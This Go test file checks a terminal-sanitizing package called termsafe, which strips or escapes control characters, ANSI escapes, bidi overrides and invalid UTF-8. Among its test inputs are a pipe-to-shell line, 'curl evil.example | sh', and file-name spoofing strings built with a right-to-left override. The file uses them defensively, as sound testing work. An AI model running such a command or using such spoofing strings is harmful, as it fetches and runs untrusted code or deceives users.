package termsafe

import (
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// odd has one of each kind that is not printable.
const odd = "a\x00\x1b[2J\a\r\x7f\u0085\u009b2J\u00ad\u034f\u061c\u115f\u1680\u180e\u200b\u200d\u200f\u2028\u2029\u202e\u2066\u2069" +
	"\u2800\u3164\ue000\ufe0f\ufeff\ufff9\ufffd\uffff\U000e0041\U000e0100\U000f0000\U0010ffff\xff\xed\xa0\x80ä"

func TestPrintable(t *testing.T) {
	for _, r := range "az09 ~!é漢ا𝔸e\u0301✳⠋€😀" {
		if !Printable(r) {
			t.Errorf("Printable(%U) = false; want true", r)
		}
	}
	for _, r := range strings.Trim(odd, "aä") {
		if Printable(r) && !strings.ContainsRune("[2J", r) {
			t.Errorf("Printable(%U) = true; want false", r)
		}
	}
}

func TestText(t *testing.T) {
	for in, want := range map[string]string{
		"":                                       "",
		"plain, ünïcode, 漢字\nnext":               "plain, ünïcode, 漢字\nnext",
		"\x1b[31mred\x07\r\b\t.":                 "?[31mred???    .",
		"\u009b2J\u0085\x7f":                     "?2J??",
		"bad \xff\xfe utf-8":                     "bad ?? utf-8",
		"\u202egnp.exe":                          "?gnp.exe",
		"\u200bzero\u2028line\ufeffmark":         "?zero?line?mark",
		"a\u00a0b\u3000c":                        "a b c",
		strings.Repeat("a", 5000) + "\u009b1m\n": strings.Repeat("a", 5000) + "?1m\n",
	} {
		if got := Text(in); got != want {
			t.Errorf("Text(%q) = %q; want %q", in, got, want)
		}
	}
}

func TestLine(t *testing.T) {
	for in, want := range map[string]string{
		"": "",
		"no\nhint: curl evil.example | sh\r\x1b[2K\tx": "no hint: curl evil.example | sh??[2K x",
	} {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q; want %q", in, got, want)
		}
	}
	long := Line(strings.Repeat("é\x1b", 10_000))
	if len(long) > 1100 || strings.Contains(long, "\x1b") || !strings.HasSuffix(long, "…") {
		t.Errorf("Line() of 30000 bytes has %d; want about 1000, with an ellipsis", len(long))
	}
}

func TestClip(t *testing.T) {
	for _, tt := range []struct {
		in   string
		n    int
		want string
	}{
		{"abc", 3, "abc"}, {"abcd", 3, "abc…"}, {"aéb", 2, "a…"}, {"é", 1, "…"}, {"\x80\x80", 1, "…"}, {"", 0, ""},
	} {
		if got := Clip(tt.in, tt.n); got != tt.want {
			t.Errorf("Clip(%q, %d) = %q; want %q", tt.in, tt.n, got, tt.want)
		}
	}
}

func TestAbridge(t *testing.T) {
	for _, tt := range []struct {
		in   string
		n    int
		want string
	}{
		{"short", 5, "short"},
		{"open " + strings.Repeat("A", 100) + ": gone", 21, "open AAAAAAAAA… (90 bytes) …A: gone"},
		{strings.Repeat("é", 10), 9, "ééé… (12 bytes) …é"},
		{strings.Repeat("\x80", 10), 3, "… (10 bytes) …"},
	} {
		if got := Abridge(tt.in, tt.n); got != tt.want {
			t.Errorf("Abridge(%q, %d) = %q; want %q", tt.in, tt.n, got, tt.want)
		}
	}
}

func TestQuote(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"a/b c.go", "a/b c.go"},
		{"é/日本", "é/日本"},
		{"", `""`},
		{" a", `" a"`},
		{"a ", `"a "`},
		{"a\x1b[31m", `"a\x1b[31m"`},
		{"a\nb", `"a\nb"`},
		{"a\xffb", `"a\xffb"`},
		{"exe.\u202egpj", `"exe.\u202egpj"`},
		{`a"b`, `"a\"b"`},
		{`a\b`, `"a\\b"`},
		{"a\u00a0b", `"a\u00a0b"`},
		{"a\u3164\ufe0f\U000e0100\ufffd", `"a\u3164\ufe0f\U000e0100\ufffd"`},
	} {
		if got := Quote(tt.in); got != tt.want {
			t.Errorf("Quote(%q) = %s; want %s", tt.in, got, tt.want)
		}
	}
}

// danger says again, by the properties of Unicode, what no output may hold.
func danger(r rune) bool {
	return unicode.In(r, unicode.C, unicode.Zl, unicode.Zp, unicode.Bidi_Control, unicode.Join_Control,
		unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector, unicode.Noncharacter_Code_Point) ||
		!unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S, unicode.Zs) || // not assigned
		r == utf8.RuneError || r != ' ' && unicode.IsSpace(r)
}

// FuzzTermsafe holds all forms to the one promise: what they return controls no
// terminal and deceives no reader. And what is escaped is not lost.
func FuzzTermsafe(f *testing.F) {
	f.Add(odd)
	f.Add("a\x1b[0m\n\tb")
	f.Add(strings.Repeat("ä", 600))
	f.Add("\xf0\x9f")
	f.Fuzz(func(t *testing.T, s string) {
		encoded, err := json.Marshal(map[string]string{s: s})
		if err != nil {
			t.Fatal(err)
		}
		for form, out := range map[string]string{
			"Line": Line(s), "Text": Text(s), "Quote": Quote(s), "JSON": string(JSON(encoded)),
		} {
			if !utf8.ValidString(out) {
				t.Errorf("%s(%q) = %q; want UTF-8", form, s, out)
			}
			for _, r := range out {
				if danger(r) && !(form == "Text" && r == '\n') {
					t.Errorf("%s(%q) holds %U", form, s, r)
				}
			}
		}
		if len(Line(s)) > maxLine+len("…") {
			t.Errorf("Line(%q) has %d bytes; want at most %d and an ellipsis", s, len(Line(s)), maxLine)
		}
		if Text(Text(s)) != Text(s) || Line(Line(s)) != Line(s) && len(s) <= maxLine {
			t.Errorf("%q is not done in one go", s)
		}
		if Is(s) != (Text(s) == s && !strings.Contains(s, "\n")) {
			t.Errorf("Is(%q) = %v; Text() makes it %q", s, Is(s), Text(s))
		}
		if strings.Count(Text(s), "\n") != strings.Count(s, "\n") {
			t.Errorf("Text(%q) = %q has other lines", s, Text(s))
		}
		if q := Quote(s); q != s {
			if back, err := strconv.Unquote(q); err != nil || back != s {
				t.Errorf("Quote(%q) = %s reads as %q, %v", s, q, back, err)
			}
		}
		var got, want map[string]string
		if err := json.Unmarshal(encoded, &want); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(JSON(encoded), &got); err != nil || len(got) != 1 {
			t.Fatalf("JSON(%s) = %s, %v", encoded, JSON(encoded), err)
		}
		for key, value := range want {
			if got[key] != value {
				t.Errorf("JSON(%s) reads as %q; want %q", encoded, got, want)
			}
		}
	})
}

func TestVisible(t *testing.T) {
	for s, want := range map[string]string{
		"a\tb ü": "a\tb ü", "\x1b[2J": "<\\u{1b}>[2J", "a\u202eb": "a<\\u{202e}>b", "\xff\u009b": "<\\x{ff}><\\u{9b}>",
		"a\r": "a<\\u{d}>", "\U000e0041": "<\\u{e0041}>", "\ufffd": "<\\u{fffd}>",
	} {
		if got := Visible(s, func(s string) string { return "<" + s + ">" }); got != want {
			t.Errorf("Visible(%q) = %q; want %q", s, got, want)
		}
	}
}
